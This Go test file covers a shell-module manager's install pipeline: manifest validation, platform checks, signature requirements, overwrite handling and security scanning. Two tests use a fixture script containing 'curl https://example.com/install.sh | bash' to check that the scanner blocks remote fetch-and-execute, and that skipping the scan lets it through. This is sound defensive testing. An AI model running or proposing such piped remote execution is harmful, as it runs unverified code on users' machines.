package install

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/zephyr-sh/zephyr/pkg/manifest"
	"github.com/zephyr-sh/zephyr/pkg/permission"
	"github.com/zephyr-sh/zephyr/pkg/platform"
	"github.com/zephyr-sh/zephyr/pkg/scan"
	"github.com/zephyr-sh/zephyr/pkg/testutil"
	"github.com/zephyr-sh/zephyr/pkg/zerr"
)

// fakeGit materializes a fixed file tree into dir on Clone, ignoring the
// source URL entirely — good enough to exercise the pipeline's own logic
// without a real network or git binary.
type fakeGit struct {
	files map[string]string // relative path -> content
}

func (f *fakeGit) Clone(ctx context.Context, repoURL, ref, dir string) error {
	for rel, content := range f.files {
		full := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(full), 0755); err != nil {
			return err
		}
		if err := os.WriteFile(full, []byte(content), 0644); err != nil {
			return err
		}
	}
	return nil
}

func (f *fakeGit) Checkout(ctx context.Context, dir, ref string) error { return nil }
func (f *fakeGit) Fetch(ctx context.Context, dir string) error        { return nil }
func (f *fakeGit) HeadCommit(ctx context.Context, dir string) (string, error) {
	return "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef", nil
}

func baseOpts(t *testing.T, files map[string]string) Options {
	t.Helper()
	tempRoot := testutil.TempDir(t, "install-temp-*")
	modulesDir := testutil.TempDir(t, "install-modules-*")

	scanOpts, err := scan.DefaultOptions()
	require.NoError(t, err)

	return Options{
		Source:        "https://example.com/git-tools.git",
		TempRoot:      tempRoot,
		ModulesDir:    modulesDir,
		AllowUnsigned: true,
		Git:           &fakeGit{files: files},
		ScanOptions:   scanOpts,
		Session:       permission.Session{ID: "sess-1", Role: permission.RoleUser},
		Platform:      platform.Current{OS: "linux", Arch: "amd64", Shell: "zsh"},
	}
}

func cleanModuleFiles() map[string]string {
	return map[string]string{
		"module.toml": `[module]
name = "git-tools"
version = "1.0.0"

[load]
files = ["git-tools.sh"]
`,
		"git-tools.sh": "alias gs='git status'\n",
	}
}

func TestRunSucceedsOnCleanModule(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())

	result, err := Run(context.Background(), opts)
	require.NoError(t, err)
	assert.Equal(t, StateInstalled, result.State)
	assert.Equal(t, "git-tools", result.Module.Name)

	target := filepath.Join(opts.ModulesDir, "git-tools")
	_, statErr := os.Stat(filepath.Join(target, "module.toml"))
	assert.NoError(t, statErr)
}

func TestRunAbortsOnCriticalFinding(t *testing.T) {
	files := cleanModuleFiles()
	files["git-tools.sh"] = "curl https://example.com/install.sh | bash\n"
	opts := baseOpts(t, files)

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.SecurityDenied, zerr.CodeOf(err))

	_, statErr := os.Stat(opts.TempRoot)
	assert.NoError(t, statErr, "temp root itself should survive, only the scratch clone is removed")
}

func TestRunAbortsOnMissingManifest(t *testing.T) {
	opts := baseOpts(t, map[string]string{"git-tools.sh": "echo hi\n"})

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.NotFound, zerr.CodeOf(err))
}

func TestRunAbortsOnNameMismatch(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())
	opts.ExpectName = "other-name"

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.Invalid, zerr.CodeOf(err))
}

func TestRunAbortsOnPlatformIncompatible(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())
	opts.Platform = platform.Current{OS: "windows", Arch: "amd64", Shell: "zsh"}

	files := cleanModuleFiles()
	files["module.toml"] = `[module]
name = "git-tools"
version = "1.0.0"

[platforms]
os = ["linux", "darwin"]

[load]
files = ["git-tools.sh"]
`
	opts = baseOpts(t, files)
	opts.Platform = platform.Current{OS: "windows", Arch: "amd64", Shell: "zsh"}

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.Invalid, zerr.CodeOf(err))
}

func TestRunAbortsOnMissingLoadFile(t *testing.T) {
	files := map[string]string{
		"module.toml": `[module]
name = "git-tools"
version = "1.0.0"

[load]
files = ["does-not-exist.sh"]
`,
	}
	opts := baseOpts(t, files)

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.Invalid, zerr.CodeOf(err))
}

func TestRunAbortsOnExistingTargetWithoutForce(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())

	result1, err := Run(context.Background(), opts)
	require.NoError(t, err)
	assert.Equal(t, StateInstalled, result1.State)

	opts2 := opts
	opts2.TempRoot = testutil.TempDir(t, "install-temp-2-*")
	opts2.Git = &fakeGit{files: cleanModuleFiles()}

	result2, err := Run(context.Background(), opts2)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result2.State)
	assert.Equal(t, zerr.Conflict, zerr.CodeOf(err))
}

func TestRunOverwritesExistingTargetWithForce(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())

	_, err := Run(context.Background(), opts)
	require.NoError(t, err)

	opts2 := opts
	opts2.TempRoot = testutil.TempDir(t, "install-temp-2-*")
	opts2.Git = &fakeGit{files: cleanModuleFiles()}
	opts2.Force = true

	result, err := Run(context.Background(), opts2)
	require.NoError(t, err)
	assert.Equal(t, StateInstalled, result.State)
}

func TestRunAbortsOnUnsignedWithoutCapability(t *testing.T) {
	opts := baseOpts(t, cleanModuleFiles())
	opts.AllowUnsigned = false
	opts.Issuers = nil // no issuer keys configured, so nothing can ever verify

	result, err := Run(context.Background(), opts)
	require.Error(t, err)
	assert.Equal(t, StateRolledBack, result.State)
	assert.Equal(t, zerr.SecurityDenied, zerr.CodeOf(err))
}

func TestRunSkipScanBypassesScanner(t *testing.T) {
	files := cleanModuleFiles()
	files["git-tools.sh"] = "curl https://example.com/install.sh | bash\n"
	opts := baseOpts(t, files)
	opts.SkipScan = true

	result, err := Run(context.Background(), opts)
	require.NoError(t, err)
	assert.Equal(t, StateInstalled, result.State)
	assert.Nil(t, result.ScanResult)
}
